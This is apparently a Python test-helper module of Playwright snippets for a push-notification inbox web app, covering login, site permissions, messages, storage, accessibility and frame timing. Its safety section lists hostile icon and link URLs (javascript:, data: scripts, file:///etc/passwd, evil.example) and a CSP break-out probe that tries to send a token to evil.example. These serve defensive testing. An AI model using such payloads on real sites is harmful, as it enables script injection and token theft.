"""What a person does on the page and sees there, in the words of tests; by Playwright's roles and labels.

Must not know: what is tested, which service it is beyond where its page is.
"""

from typing import Any, Final

from tests.interop.chromium import Tab
from tests.interop.inbox.service import Service

PNG: Final = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPj/HwADBwIAMCbHYQAAAABJRU5ErkJggg=="

# --- in and out ------------------------------------------------------------------------------------------------------


async def log_in(tab: Tab, service: Service, name: str) -> str:
    """By the development identity provider; the id of the server that the tab is then connected to."""
    server: str = await tab.do(
        """if (!page.url().startsWith(values.inbox)) await page.goto(values.inbox);
        await page.getByLabel('Name').fill(values.name);
        await page.getByRole('button', { name: 'Log in', exact: true }).click();
        await page.getByText('Connected ·').waitFor();
        return (await page.locator('#phase').textContent()).split(' ').pop();""",
        inbox=service.inbox,
        name=name,
    )
    return server


async def until_connected(tab: Tab, to: str = "") -> None:
    await tab.do("await page.getByText(values.words).waitFor()", words=f"Connected · {to}")


async def is_connected(tab: Tab, to: str) -> bool:
    text: str = await tab.do("return page.locator('#phase').textContent()")
    return text == f"Connected · {to}"


async def place(tab: Tab, service: Service, server: str) -> None:
    """Until the tab is connected to this server: which of two equals is named first is left to chance, until the Box
    Office sees who is connected where."""
    while not await is_connected(tab, server):
        await service.until_first(server, await token_of(tab))
        await tab.do("await page.reload()")
        await until_connected(tab)


async def connection(tab: Tab) -> dict[str, str]:
    """What the page says of its connection, by its own words."""
    said: dict[str, str] = await tab.do(
        """await page.locator('#connection').click();
        const rows = await page.locator('#status dl div').allInnerTexts();
        await page.keyboard.press('Escape');
        return Object.fromEntries(rows.map((each) => each.split('\\n')));"""
    )
    return said


NO_ROOM: Final = """
pages.asked = 0;
await context.route('**/v1/servers', (route) => {
  if (route.request().method() === 'GET') pages.asked += 1;
  return route.fulfill({
    status: route.request().method() === 'GET' ? 503 : 204, contentType: 'application/problem+json',
    body: JSON.stringify({ code: 'no_capacity', detail: 'there is no room', servers: [] }),
    headers: { 'Retry-After': '60', 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': 'Authorization',
      'Access-Control-Expose-Headers': 'Retry-After' },
  });
});
"""
"""From now on the Box Office has room for nobody; `pages.asked` counts who asked."""


async def click(tab: Tab, name: str) -> None:
    """A button."""
    await tab.do("await page.getByRole('button', { name: values.name, exact: true }).click()", name=name)


async def devices(tab: Tab) -> list[str]:
    found: list[str] = await tab.do(
        """await page.getByText('All devices', { exact: true }).click();
        await page.locator('#device-list li').first().waitFor();
        return page.locator('#device-list li').allTextContents();"""
    )
    return found


# --- sites -----------------------------------------------------------------------------------------------------------

_ASK = """
await page.getByLabel('Allow a site to send to you').fill(values.site);
if (values.icon) {
  const file = { name: 'icon.png', mimeType: 'image/png', buffer: Buffer.from(values.icon, 'base64') };
  await page.getByLabel('Its icon').setInputFiles(file);
}
await page.getByRole('button', { name: 'Allow…' }).click();
const asked = page.getByRole('dialog', { name: values.site });
await asked.getByRole('button', { name: values.answer, exact: true }).click();
"""
_SHOWN_URL = """
await page.locator('select[name=to]').selectOption(values.site);
return (await page.locator('#curl').textContent()).match(/http[^']*\\/push\\/[^']*/)[0];
"""


async def allow(tab: Tab, site: str, *, icon: str = "") -> str:
    """The push URL that the page then shows. `icon`: a picture in base64."""
    url: str = await tab.do(_ASK + _SHOWN_URL, site=site, icon=icon, answer="Allow")
    return url


async def refuse(tab: Tab, site: str) -> None:
    await tab.do(_ASK, site=site, icon="", answer="Don’t allow")


async def revoke(tab: Tab, site: str) -> None:
    await click(tab, f"Revoke push URL of {site}")
    await click(tab, "Revoke")


async def sites(tab: Tab) -> list[str]:
    found: list[str] = await tab.do("return page.locator('.push-url .site').allTextContents()")
    return found


async def until_sites(tab: Tab, *names: str) -> None:
    await tab.do(
        """await page.waitForFunction((wanted) => JSON.stringify(
          [...document.querySelectorAll('.push-url .site')].map((each) => each.textContent)) === wanted,
          JSON.stringify(values.names))""",
        names=names,
    )


# --- messages --------------------------------------------------------------------------------------------------------

UNTIL_SETTLED: Final = "await page.waitForFunction(() => document.querySelector('#feed').ariaBusy === 'false');"


async def until_titles(tab: Tab, *titles: str) -> None:
    """Until these messages are shown, and no others, newest first."""
    await tab.do(
        """await page.waitForFunction((wanted) => document.querySelector('#feed').ariaBusy === 'false' &&
          JSON.stringify([...document.querySelectorAll('.message:not([inert]) h3')].map((each) => each.textContent))
            === wanted, JSON.stringify(values.titles))""",
        titles=titles,
    )


async def messages(tab: Tab) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = await tab.do(
        UNTIL_SETTLED
        + """return page.locator('.message').evaluateAll((all) => all.map((each) => ({
          title: each.querySelector('h3').textContent,
          body: each.querySelector('.body').textContent,
          icon: each.querySelector('img')?.src ?? null,
          link: each.querySelector('a').hidden ? null : each.querySelector('a').href,
        })));"""
    )
    return found


async def until_said(tab: Tab, words: str) -> None:
    """To screen readers."""
    await tab.do("await page.getByRole('status').filter({ hasText: values.words }).waitFor()", words=words)


# --- what is kept ----------------------------------------------------------------------------------------------------

_OPEN = """
const number = sessionStorage.getItem('pushctl-inbox-profile');
const store = await (await import('/inbox/store.js')).openStore(`pushctl-inbox-${number}`);
"""


async def token_of(tab: Tab) -> str:
    """The tab's session. Only the browser's own database has it."""
    token: str = await tab.do(
        f"""return page.evaluate(async () => {{ {_OPEN}
          const {{ token }} = await store.session();
          store.close();
          return token }})"""
    )
    return token


async def stored(tab: Tab) -> dict[str, Any]:
    """How much of an inbox there is in the tab's database."""
    found: dict[str, Any] = await tab.do(
        f"""return page.evaluate(async () => {{ {_OPEN}
          const [messages, pushUrls, session] = [await store.rows(), await store.pushUrls(), await store.session()];
          store.close();
          return {{ messages: messages.length, pushUrls: pushUrls.length, session }} }})"""
    )
    return found


# --- safety ----------------------------------------------------------------------------------------------------------

COMPLAINTS: Final = """
const meant = [/ERR_INTERNET_DISCONNECTED/, /ERR_CONNECTION_REFUSED/, /WebSocket connection to .* failed/,
  /status of (?:40[14]|503)/];
return said.splice(0).filter((line) => !meant.some((each) => each.test(line)));
"""
"""Of a page; a network that is taken away is no complaint."""

HOSTILE_ICONS: Final = (
    "javascript:alert(3)",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(4)'/>",
    "data:text/html,<script>alert(5)</script>",
    "https://user:secret@icons.example/",
    "blob:https://evil.example/0",
    "http://icons.example/seen-by-alice.png",
)
HOSTILE_LINKS: Final = (
    "javascript:alert(6)",
    "data:text/html,<script>alert(7)</script>",
    "vbscript:x",
    "https://bank.example@evil.example/",
    "file:///etc/passwd",
    "//evil.example",
)

CUT_OFF: Final = """
return page.evaluate(() => [...document.querySelectorAll('html, main, h3, .body')]
  .filter((each) => each.scrollWidth > each.clientWidth).map((each) => each.outerHTML.slice(0, 80)));
"""
"""What is wider than its place."""

TRY_TO_BREAK_OUT: Final = """
return page.evaluate(async () => {
  const why = async (work) => { try { await work(); return 'done' } catch (error) { return error.name } };
  const seen = [];
  document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
  return {
    html: await why(() => { document.body.innerHTML = '<b>x</b>' }),
    policy: await why(() => trustedTypes.createPolicy('other', {})),
    elsewhere: await why(() => fetch('https://evil.example/?token')),
    rest: await why(() => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: '/' }));
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' });
      document.body.append(form);
      form.submit();
    }),
    refused: await (async () => {
      const moment = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
      for (let n = 0; n < 250 && new Set(seen).size < 5; n += 1) await moment(20);
      await moment(300);  // and nothing more
      return [...new Set(seen)].sort();
    })(),
  };
});
"""
NO_WAY_OUT: Final = {
    "html": "TypeError",
    "policy": "TypeError",
    "elsewhere": "TypeError",
    "rest": "done",
    "refused": ["connect-src", "form-action", "frame-src", "require-trusted-types-for", "trusted-types"],
}

# --- smoothness ------------------------------------------------------------------------------------------------------

SPENT: Final = """
const session = (pages.session ??= await context.newCDPSession(page));
await session.send('Performance.enable', { timeDomain: 'threadTicks' });
const { metrics } = await session.send('Performance.getMetrics');
return 1000 * metrics.find((each) => each.name === 'TaskDuration').value;
"""
"""CPU time of the page's main thread so far, in ms: what it needs of a frame, however busy the machine is."""

WATCH_FRAMES: Final = """
await page.addInitScript(() => {
  globalThis.seen = { tasks: [], shift: 0 };
  new PerformanceObserver((list) => seen.tasks.push(...list.getEntries().map((each) => each.duration)))
    .observe({ type: 'longtask', buffered: true });
  new PerformanceObserver((list) => {
    for (const each of list.getEntries()) if (!each.hadRecentInput) seen.shift += each.value;
  }).observe({ type: 'layout-shift', buffered: true });
});
"""
FRAMES: Final = "return page.evaluate(() => ({ tasks: seen.tasks.splice(0).map(Math.round), shift: seen.shift }));"

SCROLL: Final = """
return page.evaluate(async () => {
  seen.tasks.length = 0;
  const begun = performance.now();
  const frames = [];
  let before = begun;
  // More than a screen in each frame, so that all of each is new, until the end.
  while (scrollY + innerHeight < document.documentElement.scrollHeight - 1) {
    scrollBy(0, 1200);
    await new Promise(requestAnimationFrame);
    frames.push(performance.now() - before);
    before = performance.now();
  }
  await new Promise((resolve) => setTimeout(resolve, 100));
  return {
    ms: performance.now() - begun, frames: frames.length, worst: Math.max(...frames),
    long: seen.tasks.reduce((sum, each) => sum + each, 0), tasks: seen.tasks.splice(0).map(Math.round),
    reached: scrollY + innerHeight, height: document.documentElement.scrollHeight,
  };
});
"""

# --- barriers --------------------------------------------------------------------------------------------------------

_BARRIERS = """
const found = [];
for (const colorScheme of ['light', 'dark']) {
  await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
  await page.evaluate(axe);
  const { violations } = await page.evaluate(() => globalThis.axe.run({ resultTypes: ['violations'] }));
  for (const { id, impact, nodes } of violations) {
    if (['serious', 'critical'].includes(impact)) {
      found.push([colorScheme, id, ...nodes.map((node) => `${node.html} ${node.failureSummary}`)]);
    }
  }
}
await page.emulateMedia({ colorScheme: 'light' });
return found;
"""


async def barriers(tab: Tab) -> list[Any]:
    """What axe-core finds serious or critical on the page as it is now, in light and in dark."""
    found: list[Any] = await tab.do(_BARRIERS)
    return found


BY_KEYBOARD: Final = """
const where = () => page.evaluate(() => {
  const { activeElement: element } = document;
  return element.matches('.message') ? element.querySelector('h3').textContent : element.id;
});
const seen = [];
const press = async (key) => { await page.keyboard.press(key); seen.push(await where()) };
await page.locator('#clear').focus();
await press('Tab');
await press('ArrowDown');
await press('ArrowDown');
await page.keyboard.press('Home');
for (const [left, key] of [[3, 'Enter'], [2, 'Space'], [1, 'Enter'], [0, 'Enter']]) {
  await page.keyboard.press(key);
  await page.waitForFunction((left) => document.querySelectorAll('.message').length === left, left);
  seen.push(await where());
}
return seen;
"""
"""Where the focus is, step by step."""

LIVE_AS_A_PEER: Final = """
return page.evaluate(async (lives) => {
  const { Peer } = await import('/inbox/peer.js');
  return lives.map(([numbers, calls]) => {
    const peer = new Peer(() => numbers.shift());
    return calls.map(([name, ...rest]) => {
      const { asked, ...step } = peer[name](...rest) ?? { none: true };
      return step.none ? null : step;
    });
  });
}, values.lives);
"""

KEEP: Final = """
return page.evaluate(async () => {
  const { openStore } = await import('/inbox/store.js');
  const store = await openStore('a-test');
  const later = new Date(Date.now() + 3_600_000).toISOString();
  const message = { id: 'm1', push_url: 'p', site: 'https://news.example', sent_at: later, expires_at: later };
  const event = (cursor, more = {}) => ({ type: 'message', cursor, live: true, message: { ...message, ...more } });
  const states = async () => (await store.rows()).map((row) => row.state);
  const said = {};
  await store.apply([event('c1')], 'c1');
  await store.markRead(['m1']);
  const { live } = await store.apply([event('c2')], 'c2');
  said.again = [await states(), live, await store.cursor()];
  await store.replace([], [message], 'c3');
  said.snapshot = [await states(), await store.cursor()];
  const broken = store.apply([event('c4', { id: 'm2' }), event('c5', { id: 'm3', expires_at: 'soon' })], 'c5');
  said.broken = [await broken.catch((error) => error.message), await states(), await store.cursor()];
  await store.apply([{ type: 'read', ids: ['m1', 'unknown'], cursor: 'c4' }], 'c4');
  said.confirmed = [await states(), await store.pendingReads()];
  store.close();
  return said;
});
"""
"""Of store.js: what is kept of a message that comes again, alone and in a snapshot, and of one that cannot be."""
